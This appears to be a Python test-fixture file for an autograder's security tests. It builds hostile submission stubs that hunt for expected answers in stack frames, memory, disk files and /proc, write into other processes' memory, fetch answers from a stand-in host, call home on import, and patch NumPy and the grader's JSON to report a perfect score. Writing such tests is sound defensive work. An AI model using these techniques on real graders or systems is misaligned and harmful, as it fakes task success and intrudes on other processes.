"""Stubs that look for answers, or for a way out of the sandbox, and return what they find."""

from grading.hostile import EVERYTHING, hostile, instead, solved, unsolved, zipped
from grading.manifest import MANIFEST

NAMES = {exercise.name.split(".")[-1] for exercise in MANIFEST.exercises.values()}


def answering(search):
    """Stubs whose exercises all return what a search finds.

    Inputs:
    - search: Source that defines `search(arguments)`, which returns arrays, or raises
    """
    code = f"""

import numpy as np
{search}
def answer(*arguments, **_):
    try:
        found = search(arguments)
    except BaseException:
        found = []
    found = [np.array(a) for a in found] or [np.zeros(1)]
    return tuple((found * 8)[:6])

for name in {sorted(NAMES)}:
    if name in globals(): globals()[name] = answer
    for owner in list(globals().values()):
        if isinstance(owner, type) and name in vars(owner): setattr(owner, name, answer)
"""
    return zipped(unsolved(code))


@hostile(*EVERYTHING)
def frames():
    """It walks up the stack and looks for expected answers in all variables."""
    return answering(
        """
import sys
def search(arguments):
    frame, found = sys._getframe(), []
    while frame:
        for name, value in [*frame.f_locals.items(), *frame.f_globals.items()]:
            if any(word in name.lower() for word in ("expect", "right", "answer", "reference", "solution", "correct")):
                values = value.values() if isinstance(value, dict) else [value]
                found += [v for v in values if isinstance(v, np.ndarray)]
        frame = frame.f_back
    return found
"""
    )


@hostile(*EVERYTHING)
def garbage_collector():
    """It looks through all objects in memory for arrays that are not its arguments."""
    return answering(
        """
import gc
def search(arguments):
    arrays = [o for o in gc.get_objects() if isinstance(o, np.ndarray)]
    arrays += [v for o in gc.get_objects() if type(o) is dict for v in o.values() if isinstance(v, np.ndarray)]
    return [a for a in arrays if not any(a is b for b in arguments)]
"""
    )


@hostile(*EVERYTHING)
def files_of_the_grader():
    """It searches the whole disk for the reference, tests and stored answers, and tries to import
    them.
    """
    return answering(
        """
import glob, importlib, os, sys
def search(arguments):
    sys.path += ["/autograder/source", "/box", *glob.glob("/home/*/*"), *glob.glob("/*")]
    for name in ("grading.cases", "grading.variants.plain", "exercises.stored", "deeplearning.given_0"):
        try:
            importlib.import_module(name)
        except BaseException:
            continue
        raise SystemExit  # found: the test of the grader looks for it
    found = []
    for folder, folders, names in os.walk("/"):
        folders[:] = [f for f in folders if f not in ("proc", "sys", "usr", "site-packages") and "python3" not in f]
        for name in names:
            if name.endswith(".npz"):
                found += list(np.load(os.path.join(folder, name)).values())
    return found
"""
    )


@hostile(*EVERYTHING)
def processes_and_environment():
    """It reads other processes' memory, environment and open files, and its own environment."""
    return answering(
        """
import contextlib, glob, os
def search(arguments):
    text = repr(os.environ)
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/fd/*"):
        with contextlib.suppress(OSError):
            text += open(path, errors="replace").read(100_000) if "fd" not in path else os.readlink(path)
    for pid in os.listdir("/proc"):
        with contextlib.suppress(OSError, ValueError):
            with open(f"/proc/{int(pid)}/mem", "r+b") as memory:
                memory.seek(0x400000)
                memory.write(b"pwned")
    return []
"""
    )


@hostile(*EVERYTHING)
def network():
    """It asks a server for the answers."""
    return answering(
        """
import socket, urllib.request
def search(arguments):
    socket.setdefaulttimeout(2)
    for address in (("1.1.1.1", 53), ("127.0.0.1", 22), ("127.0.0.1", 8786)):
        try:
            socket.create_connection(address).close()
        except OSError:
            continue
    return [np.frombuffer(urllib.request.urlopen("http://answers.example/", timeout=2).read())]
"""
    )


@hostile()
def network_beside_the_right_answer():
    """It calls home on import, and carries on if nobody answers."""
    files = solved()
    for path in files:
        files[path] += """

def call_home():
    import socket
    try:
        socket.create_connection(("example.org", 80), timeout=2)
    except OSError:
        pass

call_home()
"""
    return zipped(files)


@hostile(*EVERYTHING)
def patched_numpy():
    """It makes NumPy's comparisons come out true, and answers zero."""
    return answering(
        """
def always(*_, **__): return True
for name in ("allclose", "array_equal", "isclose", "isfinite", "all", "any", "array_equiv"):
    setattr(np, name, always)
np.linalg.norm = lambda *_, **__: 0.0
for name in [n for n in dir(np.testing) if n.startswith("assert")]: setattr(np.testing, name, always)
def search(arguments):
    return [np.zeros_like(a) for a in arguments if isinstance(a, np.ndarray)]
"""
    )


@hostile(*EVERYTHING)
def patched_server():
    """It replaces functions that handle its answers: the exercises' calls, the messages and JSON."""
    return answering(
        """
import json, sys
def search(arguments):
    import messages
    from exercises import calls
    messages.encode = lambda about, groups=(): b'\\0' * 7 + b'\\1' + b'x'
    calls._named = lambda function, names, returned: {n: np.zeros(1) for n in names.split()}
    json.dumps = lambda *_, **__: '{"about": "done", "groups": [], "score": 100}'
    return []
"""
    )


@hostile("tv_loss")
def question_in_place_of_an_answer():
    """It calls the grader although nothing was lent, so that its server waits for a reply, and
    would get the next exercise's inputs instead.
    """
    code = """
import os, struct, time
def tv_loss(*a, **k):
    header = b'{"about": {"call": "tv_loss"}, "groups": []}'
    message = struct.pack(">QI", 4 + len(header), len(header)) + header
    for pipe in range(3, 128):
        try: os.write(pipe, b"?" + message)
        except OSError: pass
    time.sleep(3)
    return right(*a, **k)
"""
    return zipped(instead("tv_loss", code))
